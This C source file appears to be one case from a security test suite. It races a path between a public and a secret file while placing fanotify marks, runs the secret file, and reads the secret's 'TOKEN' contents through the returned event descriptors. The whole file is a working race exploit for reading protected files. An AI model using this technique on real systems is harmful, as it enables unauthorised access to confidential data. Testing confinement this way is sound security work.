/* Needs: root. What fanotify watches flips between a public file and the secret one; an execve opens the secret. */
#include "../race.h"
#include <sys/fanotify.h>
static int told(int fd)
{
	struct fanotify_event_metadata events[64];
	char bytes[256];
	ssize_t size = read(fd, events, sizeof events);
	for (struct fanotify_event_metadata *e = events; size > 0 && FAN_EVENT_OK(e, size); e = FAN_EVENT_NEXT(e, size)) {
		ssize_t got = e->fd < 0 ? 0 : pread(e->fd, bytes, sizeof bytes, 0);
		if (e->fd >= 0)
			close(e->fd);
		if (got > 5 && memcmp(bytes, "TOKEN", 5) == 0)
			return write(1, bytes, (size_t)got) > 0;
	}
	return 0;
}
int main(void)
{
	static char path[4096];
	const char *good = PUBLIC, *bad = SECRET;
	int fd = fanotify_init(FAN_CLASS_NOTIF | FAN_NONBLOCK, O_RDONLY);
	if (fd < 0 || strlen(good) != strlen(bad))
		return 1;
	struct race *r = start_flip(path, strlen(good), good, bad);
	for (int i = 0; flips_on(r, i); i++) {
		fanotify_mark(fd, FAN_MARK_ADD, FAN_OPEN | FAN_ACCESS | FAN_OPEN_EXEC, AT_FDCWD, path);
		if (i % 100 != 99)
			continue;
		if (fork() == 0) {
			run_file(SECRET);
			_exit(0);
		}
		wait(NULL);
		if (told(fd))
			return r->over = 1, 0;
	}
	return r->over = 1;
}
